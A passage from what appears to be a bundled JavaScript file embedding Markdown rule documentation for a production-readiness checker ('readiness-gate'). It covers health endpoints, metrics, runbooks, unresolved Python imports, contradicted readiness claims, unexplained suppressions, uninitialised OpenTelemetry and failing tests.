Kernel\'s own `configureRoutes`, no routing configuration at all, or a controller no import loads leave the routes unread: a probe path no route lists is then likely, never proven, unserved.\n\nA service is the folder of the nearest manifest **of the code\'s own ecosystem** (a Python module belongs to the `pyproject.toml` above it even when its folder has a `package.json` that builds its CSS; a Go file beside the UI\'s `package.json` belongs to `go.mod`). Pages of file-based routing (Next.js `page.tsx`, SvelteKit `+page.svelte`, Nuxt and Astro pages, Remix route modules with a default export) make a website, not an API: a service with pages only is not judged.\n\n- **Likely** (reported as P1, the gap named in the message): "it serves GET / (`<file>:<line>`), which a probe can use" (or "a page answers GET / …"); "`/worker-health` may be a health endpoint (a health word in its name)" (a health word as one part of a segment, before any parameter: `worker-health`, `queue_status`; not `up`, `live` or `startup`, as in `sign-up`); "nothing in the repository deploys this service (no Dockerfile, compose service or manifest runs it)" (a published library, an app whose image is built elsewhere); "another app in the same deployable unit (`<root>`) serves `<path>`; this one may be mounted into it"; "Next.js middleware (`<file>`) may answer or rewrite any path" (likewise the SvelteKit `handle` hook, Nuxt server middleware, the Remix or React Router server entry, Astro and SolidStart middleware); "`app/routes.ts` line N builds routes the model does not read"; "`<csproj>` is a class library, not a web app: its endpoints are mapped into the app that references it, where health may be mapped too" (an ASP.NET project whose SDK is not `Microsoft.NET.Sdk.Web` and that builds no executable); "`packages/api-gateway`, a workspace package it imports, names `/healthcheck`: what that package registers when loaded (a decorated controller) may serve it here" (a bare import of a repository package whose code routes or names a health path: inversify-express-utils and routing-controllers register a decorated controller wherever its class is loaded, standardnotes/server\'s home server); "`Program.cs:<line>` calls `MapMinimalEndpoints()` on the app, which maps endpoints the model does not read" (a `Map…` extension method on the app that is not the framework\'s own: assembly scanning, a shared project\'s defaults; not `MapGroup`, `MapControllers`, `MapOpenApi`...); "Spring Boot Actuator (/actuator/health) may come in transitively; Maven dependencies are not resolved". A health library counts when a manifest declares it, by Maven `artifactId` or Gradle coordinates (`group:artifact[:version]`). A service whose routes are not found is not applicable; when the repository has runtime code in a language whose routes are not read (Elixir `.ex`, Erlang, Gleam, Rust, Kotlin, Scala, Clojure, Swift, Dart, Haskell, F#, Crystal), the reason and the "health endpoints" row name it (*"no HTTP routes found; routes of Elixir code (`lib/app_web/router.ex`) are not read"*): that pass is not earned by reading them.\n- **Where the file lives** (the repository map\'s class of the importing file): P0 only in `runtime` code; at most P1 in `test`, `tooling`, `generated` and `vendored` code; at most P2 in `docs` and `example` code. The message then ends with the reason ("(In test code or test data.)").\n\n## Why it matters\n\nProbes and load balancers cannot tell a process that started from one that works: a broken release takes traffic and is never restarted.\n\n## How to fix\n\nAdd a cheap liveness route and a readiness route that checks the dependencies, and point the probes at them:\n\n```python\n@app.get("/livez")\ndef livez(): return {"status": "ok"}\n```\n\n**Routes behind a mount the model cannot follow** (`path(\'\', include(mathesar_urls))` where the\nmodule is not resolved, a router built at run time): the service\'s routes are not fully read, so a\nmissing health route is likely (P1), with the mount named.\n\n## Not detected (near-misses)\n\n- Services whose routes cannot be read (no supported framework: Sinatra, Hanami, Slim, Lumen\'s `$router`, Symfony docblock `@Route` annotations): not applicable.\n- Routers configured elsewhere than their convention says: SvelteKit `kit.files.routes`, Nuxt `srcDir`/`dir.pages` and layers, Remix `routes()` in `remix.config.js` or the Vite plugin, Next.js `basePath`.\n- A package router mounted by several apps belongs to the first mount found; a CommonJS `const { router } = require(\'@acme/x\')` is not followed.\n- gRPC services (gRPC health checking is not HTTP).\n- Libraries (service rule).\n- A service whose Dockerfile has a `HEALTHCHECK` (other than `NONE` and database checks such as\n  `pg_isready` or `redis-cli ping`): the container is health-checked, whatever route the command\n  calls, often through a script (`HEALTHCHECK CMD python healthcheck.py`).\n\n## Example findings\n\n> **P0 no-health-endpoint** `src/app/routes/article/article.controller.ts`\n> The service serves 20 HTTP routes (node-web; e.g. `/articles`) but no health endpoint (`/health`, `/healthz`, `/ready`, `/live`, `/status`, `/ping`...): probes and load balancers cannot tell whether it works.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-health-endpoint: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-health-endpoint, path: "...", reason: "..." }`; or turn the rule off: `rules: { no-health-endpoint: off }`.\n';

// raw:rules/checks/no-metrics.md
var no_metrics_default = '# no-metrics\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P1** | observability | 4 h | `src/checks/no-metrics/` |\n\nA service with no metrics instrumentation.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nNo metrics library among the dependencies of any manifest (package.json, requirements*.txt, pyproject.toml, Pipfile, setup.py/cfg, go.mod, pom.xml, build.gradle): Prometheus clients (prometheus_client, prom-client, client_golang, Micrometer, simpleclient) and their framework integrations, OpenTelemetry metrics SDKs and exporters, StatsD clients, vendor agents (ddtrace/dd-trace, newrelic, elastic-apm), Spring Boot Actuator. `ServiceMonitor`/`PodMonitor` resources and `prometheus.io/scrape` annotations count too. The finding is at the first manifest. The check fills the **metrics** and **dashboards** gap rows (Grafana dashboards as code under `dashboards/`/`grafana/` or `*dashboard*.json`).\n\n## Why it matters\n\nWithout request rates, error rates and latencies, nobody can see the service degrade, and no alert can fire.\n\n## How to fix\n\nInstrument the service (prometheus-fastapi-instrumentator, prom-client, client_golang, Micrometer, or OpenTelemetry metrics) and expose request count, errors and latency for the platform to scrape.\n\n## Not detected (near-misses)\n\n- Metrics from a service mesh or the ingress only (not the service\'s own).\n- Libraries (service rule).\n\nManifests read: package.json, requirements*.txt, pyproject.toml, Pipfile, setup.py/cfg, go.mod, pom.xml,\nbuild.gradle(.kts), Cargo.toml, Gemfile, *.gemspec, *.csproj, composer.json, mix.exs.\nA Gradle coordinate counts by its artifact (`io.micrometer:micrometer-core:1.12`), and so does a\nlibrary of a version catalog (`gradle/libs.versions.toml`, its module or group and name) that a\nbuild file names by its accessor (`libs.micrometer.registry.prometheus`, or a bundle\n`libs.bundles.monitoring`); a catalog entry no build file names does not count.\n\n## Example findings\n\n> **P1 no-metrics** `package.json`\n> No metrics instrumentation: no Prometheus client, OpenTelemetry metrics, StatsD or vendor agent among the dependencies (looked at package.json): nobody can see request rates, errors or latency.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-metrics: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-metrics, path: "...", reason: "..." }`; or turn the rule off: `rules: { no-metrics: off }`.\n';

// raw:rules/checks/no-runbook.md
var no_runbook_default = '# no-runbook\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | operations | 4 h | `src/checks/no-runbook/` |\n\nA service with no runbook or operations guide.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nNone of: a `RUNBOOK*` / `runbook*` document anywhere, a `runbooks/` or `playbooks/` folder, `docs/operations*`, `docs/ops*`, `docs/on-call*`, `docs/sre*`, `docs/incident*`, nor a heading in a README or docs page naming runbook, operations, operating, on-call, troubleshooting, incident (response), disaster recovery or rollback. Finding at `.`. The check fills the **runbook** gap row.\n\n## Why it matters\n\nAt 3 a.m. the person on call has to rediscover how to restart, roll back and debug the service, while it is down.\n\n## How to fix\n\nAdd `RUNBOOK.md` (or `docs/runbook.md`): how to deploy and roll back, health endpoints and dashboards, each alert and what to do, known failure modes, escalation contacts.\n\n## Not detected (near-misses)\n\n- Runbooks kept in a wiki: suppress with the reason and the link.\n- Source folders named `operations/` (code, not docs).\n- Libraries (service rule).\n\n## Example findings\n\n> **P2 no-runbook** `.`\n> No runbook or operations guide (looked for RUNBOOK.md, docs/runbook*, docs/operations*, runbooks/, playbooks/ and an Operations/Runbook section in the README): whoever is on call must rediscover how to restart, roll back and debug the service.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore no-runbook: <why this is safe>`; or in the configuration file, with a reason: `{ rule: no-runbook, path: "...", reason: "..." }`; or turn the rule off: `rules: { no-runbook: off }`.\n';

// raw:rules/checks/python-unresolved-import.md
var python_unresolved_import_default = '# python-unresolved-import\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | build | 15 min | `src/checks/python-unresolved-import/` |\n\nA Python import that cannot resolve when the code runs: the module raises\n`ModuleNotFoundError` / `ImportError` the first time it is imported, which for a\nservice is usually at start-up or on the first request.\n\n## What is detected\n\nImports are read from each file\'s syntax tree (tree-sitter) and resolved the way\nthe interpreter does (`src/analysis/python/modules.ts`):\n\n- **Source roots**: the repository root; every folder holding a Python manifest\n  (`pyproject.toml`, `setup.py`, `setup.cfg`, `requirements*.txt`, `Pipfile`) and\n  its `src/`; the roots packaging and test configuration declare\n  (`[tool.setuptools] package-dir`, `[tool.setuptools.packages.find] where`, Poetry\n  `packages.from`, hatch wheel `packages`, `[tool.pytest.ini_options] pythonpath`,\n  `mypy_path`, setup.cfg `package_dir` / `[tool:pytest] pythonpath`, setup.py\n  `package_dir` / `find_packages(where=...)`). A root applies to the files of the\n  project that declares it.\n- **Packages**: regular (with `__init__.py`) and namespace packages (a folder of\n  modules), `.py`, `.pyi`, Cython `.pyx`/`.pxd` and built extensions.\n\nThree findings:\n\n1. **A module of the package imported as top-level** (the key case): inside a\n   package, `from provenance import ProvenanceTracker` or `import provenance`\n   where `provenance.py` is a sibling (or a module of a package above) and no\n   source root, no declared distribution and not the standard library provides a\n   top-level `provenance`. It works only when the folder itself is the working\n   directory; imported as a package it fails. The message proposes the relative\n   import (`from .provenance import ProvenanceTracker`, `from .. import util`).\n2. **A relative import whose target does not exist** (`from .schemas import X`\n   after `schemas.py` was renamed), or that climbs above the repository.\n3. **A first-party submodule that no root holds**: `from shop.payments import\n   charge` where `shop` is a package of the repository but `shop/payments.py`\n   is nowhere; or a plain module at the file\'s own source root (`app.py`, `redis.py`)\n   that a dotted import needs as a package (`import app.tasks`): "\'app\' is not a\n   package". Such a module comes first on `sys.path` and shadows an installed\n   distribution of the same name, so a declaration does not excuse it.\n\nPython 3 has no implicit relative imports: a module inside a package never shadows a\ntop-level name. A sibling is taken as the meant module (finding 1) only when it can serve\nthe whole import: never the importing module itself, and for `x.y` a package `x` that\nholds `y` (a plain `x.py` has no submodules). Otherwise, or when a manifest, lockfile or a\nruntime image (`RUN pip install playwright~=1.56`) installs the name, the import is\nthird-party: `undeclared-dependency` judges it.\n\n```python\n# agent/calculators/calc_1.py, next to agent/calculators/provenance.py\nfrom provenance import ProvenanceTracker      # P0: use `from .provenance import ProvenanceTracker`\nfrom .schemas import Result                  # P0 if agent/calculators/schemas.py does not exist\n```\n\n## When it is proven\n\nA finding is `proven` (P0) when all of these hold:\n\n- the import is not guarded (`try`/`except ImportError`) and its file is not test data;\n- for a relative import: the importing folder is a package (`__init__.py`), and the target module does not exist, or the import climbs above the top-level package;\n- for an absolute import: its top-level name is not the standard library\'s, no `sys.path`/`PYTHONPATH` edit applies to the file, no source root of the repository (root, `src/`, roots declared in pyproject/setup.cfg/setup.py) holds it, and no distribution declared by the project\'s manifests or lockfiles, or installed by a runtime image, provides it (except for a plain module at the file\'s own source root, which shadows them);\n- the missing module is not generated: not under a build output or gitignored path, not named like a generated module (`*_pb2`, `*_grpc`, `_version`).\n\nIt is `likely` (reported as P1, the gap named in the message) when:\n\n- the import runs only under a condition (an `if` on configuration): "the import runs only under a condition";\n- a Dockerfile in the file\'s folder or above `COPY`s/`ADD`s a file or folder to a path ending in the missing module: "a build step may provide it";\n- a folder above the importing file (below the repository\'s root) holds the whole module: a script run from there (`python service/image_captioning/main.py`, which LibrePhotos\' API starts with `subprocess`) has that folder first on sys.path: "`service/image_captioning` holds `api.im2txt.sample`: a script run from there (`python service/image_captioning/main.py`) has that folder first on sys.path";\n- the top-level name is a folder without `__init__.py` (a namespace portion) and no import of the repository loads a module from such a folder of that name: Python takes a namespace portion only when no installed package or module has the name (PEP 420), so the import may mean an installed package (suitenumerique/docs\'s `gitlint/` of extra gitlint rules, importing `gitlint.rules` from the gitlint CI installs): "`gitlint/` has no __init__.py and no import of the repository loads a module from it: an installed package named `gitlint` comes first";\n- a sibling module imported absolutely (`import core` in `apps/call_centre/` next to `apps/core/`) when a `runtime` module of the same source root edits `sys.path` (Django\'s settings, a manage.py): the edit is process-wide and its path is not evaluated (`sys.path.insert(0, root("apps"))`), so the folder may be on it: "`cla/settings/base.py` changes sys.path at run time with a path this does not evaluate: `cla/apps` may be on it". An edit in a test, tooling or docs module (a conftest.py, Sphinx\'s docs/conf.py) runs in another process and changes nothing;\n- a sibling module imported absolutely while a distribution the project declares or locks has module names that are not known (rules/python-import-names.yml does not name them, no import of the repository matches its name, and its name is not itself a module name: `rudder-sdk-python`, not `sqlalchemy` or `uvicorn`, which are taken to provide the module of their name): an import name is not a distribution name, and that distribution may be what the name is (Flagsmith\'s `integrations/rudderstack/rudderstack.py` importing `from rudderstack import analytics`, which rudder-sdk-python installs): "`rudder-sdk-python` is declared and its module names are not known; it may provide `rudderstack`". The same judgement undeclared-dependency makes (`src/analysis/python/unknown-dists.ts`);\n- a sibling module imported absolutely (`import Type` next to `Type.py`) in a package one of whose modules (in the importing file\'s folder) has a Python-2-only statement — `raise X, msg`, `except E, e:` (a comma and a lower-case name: Python 3.14\'s `except A, B:` lists classes), the `print "…"` or `exec "…"` statement, read from the syntax tree: "this package is written for Python 2 (e.g. `raise X, msg` in Base.py), where implicit relative imports resolve".\n\nNot judged at all: a template a generator renders before it runs — a file with a line that is a `{% … %}` / `{%- … -%}` tag outside strings and comments, or an import whose module has a `{{ … }}` placeholder (`from polar.{{ version }}.client import Client`, `export * from \'./{{ version }}/client\'`). JSX `style={{…}}`, f-strings and template literals are code.\n\n**Where the file lives** (the repository map\'s class of the importing file): P0 only in `runtime` code; at most P1 in `test`, `tooling`, `generated` and `vendored` code; at most P2 in `docs` and `example` code. The message then ends with the reason ("(In test code or test data.)").\n\n## Why it blocks\n\nThe import runs before any of the module\'s code: the service does not start, or\nthe endpoint that imports the module lazily fails on every call. Tests run from\nthe package folder, or with a different `sys.path`, often hide it.\n\n## How to fix\n\nImport modules of the same package relatively, or make the intended root\nexplicit (`[tool.setuptools.packages.find] where = ["src"]`, pytest `pythonpath`),\nand fix imports whose target was renamed or deleted.\n\n## Not detected (near-misses)\n\n| code | why it is not a finding |\n|---|---|\n| `try: import x` / `except ImportError:` | the code handles the absence |\n| `if TYPE_CHECKING: import x`, `if sys.version_info >= (3, 11): import tomllib` | never run, or another branch provides it |\n| `import helpers` in a folder without `__init__.py` | a script folder: it is `sys.path[0]` when run |\n| any import in a folder where some file edits `sys.path` (`sys.path.insert`, `site.addsitedir`) | the run-time path is not known |\n| a target under a generated folder or matched by `.gitignore`, `*_pb2.py`, `_version.py` | produced by a build step |\n| `import requests` with no manifest declaring it | third-party: `undeclared-dependency` |\n| `from playwright.async_api import x` in `fetchers/playwright.py` or beside it (a plain module of the package) | the sibling cannot serve a dotted import, and a module never imports itself: third-party |\n| `from playwright import x` beside `fetchers/playwright.py`, with a Dockerfile `RUN pip install playwright` | an image installs the distribution the absolute import loads |\n| `from redis.client import Redis` in `services/api/` (own root, `redis` declared) with a `redis.py` at the repository root | that root may not be on `sys.path` where the service runs: the declared distribution wins |\n| a relative import in a namespace package (no `__init__.py`) | not judged |\n| `from svc.app import f` in `svc/tests/test_a.py` (svc/ and svc/tests/ packages) | pytest puts the folder above the topmost package on `sys.path` for test modules and conftest.py |\n| `from mcp.client import x` where the project declares `mcp` and another service has an `src/mcp/` folder | the declared distribution is what the import loads |\n\nDowngraded to P1: a missing module that a Dockerfile in the file\'s folder or above copies into place\n(`COPY src/shared/tools.py src/agents` for `from src.agents.tools import x`); the message names the\nDockerfile. An import under a module-level `if` on configuration (`if SECRET_PROVIDER == "x":`) is\nan optional dependency: P1. A relative import that climbs into a folder without `__init__.py`\nbelow the file\'s source root (`from ..other import x` in `src/ns/pkg/mod.py`, root `src/`) is P1:\nthat folder may be a namespace package (PEP 420), which Python 3 climbs into; at the source root\nor above it, the climb is proven to fail.\n\nNot modelled: `PYTHONPATH` set in Dockerfiles or CI, `.pth` files, editable\ninstalls of other repositories, names re-exported by `__init__.py` (the names\nafter `import` are not checked, only modules).\n\n## Example finding\n\n> **P0 python-unresolved-import** `agent/calculators/calc_1.py:2`\n> `from provenance import ProvenanceTracker` imports `provenance` as a top-level module, but it\n> is `agent/calculators/provenance.py`, a module of the package `agent.calculators`, and no source\n> root, manifest or the standard library provides a top-level `provenance`: ModuleNotFoundError as\n> soon as the package is imported (it only works with this folder as the working directory). Import\n> it relatively: `from .provenance import ProvenanceTracker`.\n\n## How to suppress\n\nAn inline `# readiness-gate-ignore python-unresolved-import: reason` on the\nimport line, or a configured suppression with a reason.\n';

// raw:rules/checks/readiness-claim-contradicted.md
var readiness_claim_contradicted_default = '# readiness-claim-contradicted\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | operations | 15 min | `src/checks/readiness-claim-contradicted/` |\n\nThe documentation claims readiness for production while this run finds\nblockers.\n\n## What is detected\n\nA claim of readiness in the documentation, when the same run has at least one\n**P0** finding. One finding per claim, at the claim\'s line and column.\n\n- **Documentation** means: `README*` anywhere, Markdown (`.md`, `.mdx`,\n  `.markdown`), reStructuredText (`.rst`) and AsciiDoc (`.adoc`, `.asciidoc`)\n  anywhere, and plain text (`.txt`) under a `docs/` or `doc/` folder; but not\n  changelogs and release notes (`CHANGELOG*`, `CHANGES*`, `HISTORY*`, `NEWS*`,\n  `RELEASE-NOTES*`, anything under `changelogs/`), which record what was said\n  about past releases.\n- **A claim** is one of the phrases `production ready`, `production-ready`\n  and `ready for production`, in any letter case, with a space, a hyphen\n  (including the non-breaking and en dash variants) or a line break between the\n  words.\n- **The P0 findings** are those of the other checks after policy: severity\n  overrides from the configuration, configured suppressions and inline\n  suppressions are applied first, so a P0 the team suppressed with a reason, or\n  downgraded, does not contradict the docs. This check runs after the others\n  (`late`).\n\nThe message gives the number of P0 findings and up to three of them, by rule\nand place.\n\n## Why it matters\n\nReaders trust the README. "Production ready" next to a hardcoded credential, a\nfailing test suite or a merge conflict misleads the people who decide to deploy,\nand it is exactly the claim a production-blockers audit checks first.\n\n## How to fix\n\nFix the P0 findings before the claim goes out, or say what is true today:\n"not yet production ready: see the open blockers" is not a claim (see below).\n\n## Not detected (near-misses)\n\nA small heuristic reads the sentence around the phrase (back to the previous\n`.`, `!`, `?`, `:`, `;` or table cell border, a blank line, or the start of a\nheading, list item or quote) and skips the phrase when one of these words is\namong the **eight words before it**:\n\n| kind | words | example that is not a claim |\n|---|---|---|\n| negation | not, n\'t, never, no longer, nor, neither, none, without, far from, yet to | "It isn\'t production-ready yet." |\n| condition or time | before, until, till, once, when, if, unless, whether, prior to | "Do not deploy it until the storage layer is production-ready." |\n| change | make, get, become, turn (and their forms), migrate, upgrade | "We still have work to do to make it production-ready." |\n| direction | toward(s), road to, path to, way to, on track, to be, how to, steps to, helps you | "We are working towards being production ready." |\n| intention | aim, goal, plan, roadmap, intend, hope, working on, will, would, should, could, might, must, need to | "We plan to be production ready by Q3." |\n\nAlso not claims:\n\n- a sentence that opens with "No ... is": "No dashboard is production-ready";\n- a question: "Is it production ready?";\n- a status of no after the phrase: a table row with "no", "❌" or "false" in\n  the next cell, "Production ready: no", or "... soon", "... eventually";\n- the phrase in quotes or backticks (a mention, like the ones on this page);\n- the phrase inside a fenced code block of a Markdown file (an example);\n- "production readiness", "preproduction", "not intended for production" (not\n  the phrases);\n- code, configuration and plain text outside `docs/`;\n- a claim in a component\'s README or guide (`src/telemetry-docs/README.md`)\n  when no P0 finding is inside that folder (or repository-wide, at `.`): it\n  speaks for its component. Claims at the root and in documentation folders\n  (`docs/`, `website/`, `.github/`...) speak for the whole repository.\n\nKnown limits: a negation more than eight words before the phrase is not seen\n(the claim is reported); "production grade", "battle tested" and "enterprise\nready" are not searched for; the heuristic is English.\n\n## Example finding\n\n> **P2 readiness-claim-contradicted** `README.md:3:17`\n> README.md claims "production-ready" but this run has 3 P0 findings\n> (hardcoded-secret at src/config.py:12, merge-conflict-marker at src/db.py:40,\n> test-failure at tests/test_api.py:88).\n\n## How to suppress\n\nAn HTML comment on the line before the claim, with the reason:\n`<!-- readiness-gate-ignore readiness-claim-contradicted: the claim is about the 2.x line -->`,\nor a configured suppression for the file (`rule: readiness-claim-contradicted`,\n`path: README.md`, `reason: ...`).\n';

// raw:rules/checks/suppression-without-reason.md
var suppression_without_reason_default = '# suppression-without-reason\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | operations | 5 min | `src/checks/suppression-without-reason/` |\n\nA finding was silenced without saying why, or after the date it was meant to\ncome back.\n\n## What is detected\n\nEach finding points at the suppression itself (the comment, or the entry in the\nconfiguration file), not at what it suppresses.\n\n**Inline suppressions** (SPEC §6), read from the directives the engine parsed:\n\n- a directive with no reason: nothing after the rule ids, or an empty reason\n  after the colon. The message shows the form to use, with the reason;\n- a directive naming a rule id that does not exist (usually a typo, such as\n  `hardcoded-secrets`): it silences nothing. The message names the unknown id\n  and, when one is close, the id that was probably meant. A directive with both\n  problems gets both findings.\n\n**Configured suppressions** (`suppressions:` in the configuration file):\n\n- an entry with no `reason:` (or a blank one): it silences nothing;\n- an entry with no `expires:` date, or one more than a year after the run\'s\n  date: it silences nothing (a suppression is a dated decision that comes back\n  for review), and the message gives the latest date accepted;\n- an entry whose `expires:` date is before the run\'s date. It no longer\n  applies, so the findings it covered are active again; the message says so.\n  An expired entry is reported once, as expired, even if it also has no reason.\n\nA blanket suppression (an inline directive with no rule id, or a configured\n`rule: "*"`) does not hide the report about itself: a wildcard never covers\nthis rule; name `suppression-without-reason` explicitly to silence it.\n\n## Why it matters\n\nA suppression is a decision that a finding is acceptable. Without a reason,\nreviewers cannot check the decision, and nobody can tell later whether it still\nholds. An expired suppression was meant to be revisited; a misspelt rule id\nmakes the team believe a finding is handled while it is not.\n\n## How to fix\n\n- Inline: write the reason after a colon, on the same line:\n  `password = "x"  # readiness-gate-ignore hardcoded-password: test fixture, never deployed`\n- Configuration: add `reason:`, and renew or delete expired entries:\n\n```yaml\nsuppressions:\n  - rule: hardcoded-secret\n    path: test/fixtures/keys.pem\n    reason: "test key, never deployed"\n    expires: 2027-06-30\n```\n\n- Correct misspelt rule ids; the rule list is in the README and in RULES.md.\n\n## Not detected (near-misses)\n\n- A directive with a reason: `# readiness-gate-ignore hardcoded-password: fixture`.\n- A configured entry with a reason that expires today or later, within a year.\n- A mention of the directive in a code span or a string literal (the marker\n  directly after a backtick or a quote), as on documentation pages.\n- Prose that happens to follow the marker word with plain words ("the marker\n  word, then silences one rule"): when none of the words is a rule id and none\n  has a hyphen, it is prose, not a directive.\n- A directive the engine does not parse (for example a bare directive closed by\n  `*/` or `-->` on the same line with no reason): it suppresses nothing, so the\n  finding it aimed at stays visible.\n- Configured entries naming unknown rule ids: the configuration is rejected\n  with exit code 2 before any check runs.\n\n## Example findings\n\n> **P2 suppression-without-reason** `src/db.py:2:32`\n> Inline suppression of hardcoded-password in src/db.py:2 gives no reason: write\n> it as `readiness-gate-ignore hardcoded-password: <why this is safe>`.\n\n> **P2 suppression-without-reason** `.github/readiness-gate.yml:3`\n> Suppression of hardcoded-secret for keys.pem in .github/readiness-gate.yml\n> expired on 2026-11-22: the findings it covered are active again.\n\n## How to suppress\n\nGive the reason instead. To keep a legacy directive untouched (a vendored file),\nname this rule, with a reason, on the line before it:\n`# readiness-gate-ignore suppression-without-reason: vendored file kept byte-identical`.\n';

// raw:rules/checks/telemetry-not-initialized.md
var telemetry_not_initialized_default = '# telemetry-not-initialized\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P2** | observability | 2 h | `src/checks/telemetry-not-initialized/` |\n\nAn OpenTelemetry SDK is declared but nothing starts it.\n\nA **service rule**: it applies only when the profile is `service` (set, or detected: deployment files, Kubernetes workloads, an HTTP server dependency); for a library its findings are dropped and its gap rows say `n/a`.\n\n## What is detected\n\nAn OpenTelemetry SDK among the dependencies (`opentelemetry-sdk`, `opentelemetry-distro`, `@opentelemetry/sdk-node`, `@opentelemetry/sdk-trace-node|base|web`, `@opentelemetry/sdk-metrics`, `go.opentelemetry.io/otel/sdk`, `io.opentelemetry:opentelemetry-sdk`) while no file starts it: no `new NodeSDK(...)`, `new NodeTracerProvider(`, `registerInstrumentations(`, `--require @opentelemetry/auto-instrumentations-node/register`, `set_tracer_provider(`/`set_meter_provider(`, `configure_azure_monitor(`, `logfire.configure(`, `opentelemetry-instrument` launcher (Dockerfile, Procfile, scripts), Go `SetTracerProvider(`/`NewTracerProvider(`, Java `OpenTelemetrySdk.builder()` / `AutoConfiguredOpenTelemetrySdk` / the Java agent. The finding is at the manifest. The check fills the **tracing** gap row (`present`, `partial`, `missing`).\n\n## Why it matters\n\nThe dependency ships and the team believes the service is traced, but no span or metric ever leaves it: the first incident is debugged blind.\n\n## How to fix\n\nStart the SDK once, before the application is imported (`node --import ./otel.js app.js`, `opentelemetry-instrument uvicorn app:app`, the Java agent), or remove the unused dependency.\n\n## Not detected (near-misses)\n\n- Start-up code generated at build time or injected by the platform (operator auto-instrumentation): suppress with the reason.\n- Vendor tracers that start themselves (ddtrace, dd-trace, newrelic, elastic-apm) count as tracing present.\n- Libraries (service rule).\n\n## Example findings\n\n> **P2 telemetry-not-initialized** `pyproject.toml`\n> opentelemetry-sdk is declared in pyproject.toml but never started (no NodeSDK().start(), tracer/meter provider set-up, `opentelemetry-instrument` launcher or Java agent found): no trace or metric leaves the service.\n\n## How to suppress\n\nInline, on the flagged line (or the line above): `# readiness-gate-ignore telemetry-not-initialized: <why this is safe>`; or in the configuration file, with a reason: `{ rule: telemetry-not-initialized, path: "...", reason: "..." }`; or turn the rule off: `rules: { telemetry-not-initialized: off }`.\n';

// raw:rules/checks/test-failure.md
var test_failure_default = "# test-failure\n\n| severity | area | effort | module |\n|---|---|---|---|\n| **P0** | tests | 30 min | `src/checks/test-failure/` |\n\nA test failed or errored in this run's test reports.\n\n## What is detected\n\nEach failed (`<failure>`) or errored (`<error>`) test case of the JUnit XML reports that\n`test-reports` names (or that are found in the usual places: `junit*.xml`, `TEST-*.xml`,\n`test-results/`, `surefire-reports/`...), in the dialects the real tools write: pytest,\njest-junit, vitest, go-junit-report and gotestsum, Maven Surefire/Failsafe, PHPUnit, .NET\nJunitXml.TestLogger and NUnit 3 XML, with nested `<testsuites>`/`<testsuite>`.\n\n- **Message**: the test's full name and the first line of the failure\n  (`tests.test_pricing.TestDiscount.test_total failed: AssertionError: assert 5.0 == 10.0`).\n  go-junit-report and gotestsum write only `Failed` as the message: the first line of the\n  test's own output is used instead (`cart_test.go:15: total = 5, want 10`).\n- **Location**: the test's file and line when the report gives them (pytest's `file` and\n  0-based `line`, PHPUnit's absolute `file` mapped to the checkout) or the tree does: vitest's\n  classname is the file; pytest's module path, Java/Kotlin classes under `src/test/java`...,\n  a Go package through `go.mod` (and the `x_test.go:15` of the message); the line is that of the\n  test's definition or title. Otherwise the report file itself.\n- A Surefire test that failed every rerun (`<failure>` with `<rerunFailure>`s) says\n  `failed on all 3 attempts`.\n- A test that failed in one report is failed even when another report of the run says it passed\n  (a matrix leg, a second report planted beside this run's): another file never turns a failure\n  into a flake or a pass. Only a report's own reruns make a flake (see [`test-flaky`](test-flaky.md)).\n- Past 1,000 failing tests, the rest are counted, not listed: one more P0 finding says how many\n  (`999,000 more tests failed, not listed one by one (the first 1,000 are): see out/junit.xml.`),\n  and so do the summary and the JSON report's `metrics.tests.notListed`.\n\n## When it is proven\n\nA finding is `proven` (P0) when a test report of this run (JUnit XML and its dialects) records the test case as failed or errored. A test that failed and then passed on a rerun within one report is `test-flaky`'s, not a failure; a failure in one report and a pass in another stays a failure. Past the listing cap, one P0 finding counts the remaining failures (`cut`).\n\n- **Likely:** never; a case the rule cannot prove is not reported at all.\n- **Where the file lives** does not change it: the finding keeps its severity in every class of file (test, tooling, docs, example...).\n\n## What counts as evidence\n\nOnly reports this job wrote (SPEC §9): a report file committed to the repository (tracked by git\nand unchanged since the checkout) was written by the pull request, so a discovered one, or one\na wildcard of the input matches, is left out with a warning that names it; one the input names\nby its exact path is used, with a warning that it is a committed file. Reports are opened only\nas regular files inside the workspace (or `RUNNER_TEMP`), never through a symbolic link: a\ndiscovered link, device or FIFO is skipped; one the input matches, or a named report that is\ntruncated or cannot be read, **blocks the run** with a reason that names the input and the file.\n\n## Why it matters\n\nA red test is the team's own statement that the code does not do what it should. Shipping past\nit ships a known bug.\n\n## How to fix\n\nRun the test locally, fix the code or the test, push. A wrong test is fixed or deleted, not\nskipped to get a green build.\n\n## Not detected (near-misses)\n\n- A test that failed and then passed on a rerun recorded in the same report (gotestsum\n  `--rerun-fails`, Surefire `flakyFailure`): that is [`test-flaky`](test-flaky.md), not a failure.\n- Reports committed to the repository, unless the input names them by path (see above).\n- Skipped tests (`<skipped>`), `system-out` text that mentions \"FAIL\".\n- Reports of another kind found by discovery (a Cobertura `coverage.xml` under `test-results/`),\n  and sample reports under `fixtures/`, `testdata/` or `node_modules/`.\n- Reports that cannot be read (empty, not XML, truncated): listed in the summary, and\n  [`test-reports-missing`](test-reports-missing.md) when no report is left.\n\n## Example findings\n\n> **P0 test-failure** `tests/test_pricing.py:14`\n> tests.test_pricing.TestDiscount.test_total failed: AssertionError: assert 5.0 == 10.0\n\n## How to suppress\n\nNot by silencing the report: fix or delete the test. A known failure being worked on can be\nsuppressed with a reason and an expiry date in the configuration\n(`{ rule: test-failure, path: tests/test_pricing.py, reason: \"...\", expires: 2026-12-31 }`).\n";

// raw:rules/checks/test-flaky.md
